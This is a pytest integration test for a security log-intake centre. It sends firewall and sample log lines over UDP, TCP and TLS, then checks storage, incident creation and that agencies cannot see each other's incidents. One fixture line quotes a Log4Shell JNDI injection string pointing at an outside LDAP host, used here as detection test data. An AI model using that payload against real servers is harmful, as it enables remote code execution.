"""The whole centre over real sockets: every line sent is found again, and the attack among them is an incident."""

from __future__ import annotations

import asyncio
import json
import socket
import ssl
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from core.clock import SystemClock
from core.config import MaskingSettings
from ingest.privacy.masking import Masker
from tests.servers.centre import RunningCentre, free_port
from tests.servers.certificates import Authority, Pair
from tests.servers.forwarders import Example, Forwarder, Tls, skip_without

ATTACK = (
    '{"timestamp":"2026-03-02T10:15:00.000000+0900","flow_id":7,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.66",'
    '"src_port":51514,"dest_ip":"10.20.30.40","dest_port":8080,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2034647,'
    '"rev":1,"signature":"Apache log4j RCE Attempt (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1},'
    '"http":{"hostname":"www.example.go.kr","url":"/?x=${jndi:ldap://203.0.113.66/a}","http_user_agent":"${jndi:ldap://203.0.113.66/a}",'
    '"http_method":"GET","protocol":"HTTP/1.1","status":200,"length":12},"app_proto":"http"}'
)

FIREWALL = (
    'date=2026-03-02 time=10:15:00 devname="{via}" devid="FGT60X0000000001" tz="+0900" logid="0000000013" type="traffic" '
    'subtype="forward" vd="root" srcip=10.1.1.1 srcport=40000 dstip=198.51.100.7 dstport=443 proto=6 action="accept" sessionid={number}'
)


def sample_lines(samples: Path, most: int = 1500) -> list[str]:
    """Real single lines of many products that stay as they are under the rules of intake, each different."""
    text = (samples / "parsers" / "eval.jsonl").read_text(encoding="utf-8")
    rows = (json.loads(line)["raw"] for line in text.rstrip("\n").split("\n"))
    clean = (row for row in rows if row and row == row.strip() and "\n" not in row and "\r" not in row and "\0" not in row)
    masker = Masker(MaskingSettings(), SystemClock())
    return [row for row in dict.fromkeys(clean) if not masker.mask(row.encode()).counts][:most]


def octet_counted(lines: Sequence[str]) -> bytes:
    return b"".join(b"%d %s" % (len(line.encode()), line.encode()) for line in lines)


def newline_framed(lines: Sequence[str]) -> bytes:
    return b"".join(line.encode() + b"\n" for line in lines)


def send_udp(port: int, lines: Sequence[str]) -> None:
    """A datagram each, with a pause now and then: UDP has no backpressure."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        for number, line in enumerate(lines):
            udp.sendto(line.encode(), ("127.0.0.1", port))
            if number % 20 == 19:
                time.sleep(0.01)


def send_tcp(port: int, payload: bytes, context: ssl.SSLContext | None = None) -> None:
    with socket.create_connection(("127.0.0.1", port)) as plain:
        stream = context.wrap_socket(plain, server_hostname="127.0.0.1") if context else plain
        stream.sendall(payload)
        if isinstance(stream, ssl.SSLSocket):
            stream.unwrap().close()


@pytest.fixture
def installation(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[tuple[RunningCentre, dict[str, int], ssl.SSLContext]]:
    """A centre with a UDP, a TCP and a TLS listener, on the bus the parameter names."""
    authority = Authority(tmp_path)
    server, server_key = authority.issue("bongsu.city.example")
    client, client_key = authority.issue("fw1.jongno.example")
    ports = {kind: free_port() for kind in ("udp", "tcp", "tls")}
    tls = {"certificate": str(server), "key": str(server_key), "client_ca": str(authority.file), "require_client_certificate": True}
    listeners = [{"name": kind, "kind": kind, "host": "127.0.0.1", "port": port} for kind, port in ports.items()]
    listeners[2]["tls"] = tls
    settings: dict[str, Any] = {
        "intake": {"listeners": listeners},
        "agencies": [
            {"id": "gangnam-gu", "name_ko": "강남구", "sources": [{"name": "fw", "addresses": ["127.0.0.1/32"]}]},
            {"id": "jongno-gu", "name_ko": "종로구", "sources": [{"name": "fw", "certificates": ["fw1.jongno.example"]}]},
        ],
    }
    if request.param == "kafka":
        broker = request.getfixturevalue("kafka_broker")
        kafka = {"bootstrap_servers": broker.bootstrap_servers, "replication_factor": 1, "min_insync_replicas": 1}
        settings["bus"] = {"kind": "kafka", "topic_prefix": f"{tmp_path.name}.", "partitions": 3, "kafka": kafka}
    context = ssl.create_default_context(cafile=str(authority.file))
    context.load_cert_chain(client, client_key)
    centre = RunningCentre(tmp_path, settings)
    try:
        yield centre, ports, context
    finally:
        centre.close()


@pytest.mark.parametrize("installation", ["embedded", "kafka"], indirect=True)
def test_every_line_over_every_transport_is_found_again(
    installation: tuple[RunningCentre, dict[str, int], ssl.SSLContext], samples: Path
) -> None:
    centre, ports, context = installation
    lines = sample_lines(samples)
    udp, newline, octets, tls = (lines[part::4] for part in range(4))
    centre.start()

    send_udp(ports["udp"], udp)
    send_tcp(ports["tcp"], newline_framed(newline))
    send_tcp(ports["tcp"], octet_counted(octets))
    send_tcp(ports["tls"], octet_counted([*tls, ATTACK]), context)
    centre.wait_until_handled(len(lines) + 1)

    lead = centre.user("lead", "soc_lead")
    incident = wait_for_incident(lead, "203.0.113.66")
    assert incident["agency"] == "jongno-gu"
    detail = lead.get(f"/v1/incidents/{incident['number']}").json()
    assert ATTACK in {evidence["raw"] for evidence in detail["evidence"]}

    officer = centre.user("officer", "agency_officer", "gangnam-gu")
    assert officer.get(f"/v1/incidents/{incident['number']}").status_code == 404

    assert centre.stop() == 0
    stored = centre.stored()
    assert stored.all == Counter([*lines, ATTACK])
    assert len(stored.events) > len(stored.quarantine) * 0.1


@pytest.mark.parametrize("installation", ["embedded"], indirect=True)
async def test_rsyslog_and_logger_deliver_into_the_store(
    installation: tuple[RunningCentre, dict[str, int], ssl.SSLContext], tmp_path: Path
) -> None:
    skip_without("rsyslog")
    skip_without("logger")
    centre, ports, _ = installation
    await asyncio.to_thread(centre.start)
    tls = Tls(tmp_path / "ca.pem", Pair(tmp_path / "fw1.jongno.example.pem", tmp_path / "fw1.jongno.example.key"))
    lines: list[str] = []
    for name, port, credentials in (("plain", ports["tcp"], None), ("tls", ports["tls"], tls)):
        part = [FIREWALL.format(via=name, number=number) for number in range(500)]
        async with Forwarder(Example("rsyslog", "127.0.0.1", port, free_port(), tmp_path / name, credentials)) as forwarder:
            await forwarder.send(newline_framed(part))
            lines += part
            await asyncio.to_thread(centre.wait_until_handled, len(lines))
    file = tmp_path / "by-logger"
    file.write_text("".join(FIREWALL.format(via="logger", number=number) + "\n" for number in range(50)), encoding="utf-8")
    sent = await asyncio.create_subprocess_exec(
        "logger", "-T", "--octet-count", "-n", "127.0.0.1", "-P", str(ports["tcp"]), "-t", "fw", "-f", str(file)
    )
    assert await sent.wait() == 0
    await asyncio.to_thread(centre.wait_until_handled, len(lines) + 50)

    assert centre.stop() == 0
    stored = centre.stored()
    by_logger = Counter({line: count for line, count in stored.events.items() if 'devname="logger"' in line})
    assert stored.events - by_logger == Counter(lines)
    assert sorted(line[line.index("date=") :] for line in by_logger.elements()) == sorted(file.read_text(encoding="utf-8").splitlines())
    assert not stored.quarantine


def wait_for_incident(client: Any, text: str, seconds: float = 30.0) -> dict[str, Any]:
    """The first incident in whose summary `text` stands."""
    deadline = time.monotonic() + seconds
    seen: list[dict[str, Any]] = []
    while time.monotonic() < deadline:
        seen = client.get("/v1/incidents", params={"limit": 200}).json()["items"]
        for incident in seen:
            if text in json.dumps(incident):
                return incident
        time.sleep(0.2)
    raise AssertionError(f"no incident with {text} among {seen}")
